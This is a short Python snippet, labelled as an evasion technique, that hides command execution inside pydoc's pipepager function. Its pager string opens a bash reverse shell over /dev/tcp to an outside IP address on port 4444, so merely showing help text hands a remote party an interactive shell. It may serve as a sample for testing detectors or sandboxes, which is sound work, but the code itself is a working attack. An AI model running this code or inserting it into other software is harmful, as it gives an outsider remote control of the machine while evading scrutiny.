# Evasion: runs an arbitrary shell command.
# Hidden in pydoc: pydoc.pipepager(text, cmd) hands cmd to a shell to "page"
# the text, so showing help output runs a reverse shell.
import pydoc

text = "usage: tool [options]\n"
pager = "bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'; cat"
pydoc.pipepager(text, pager)
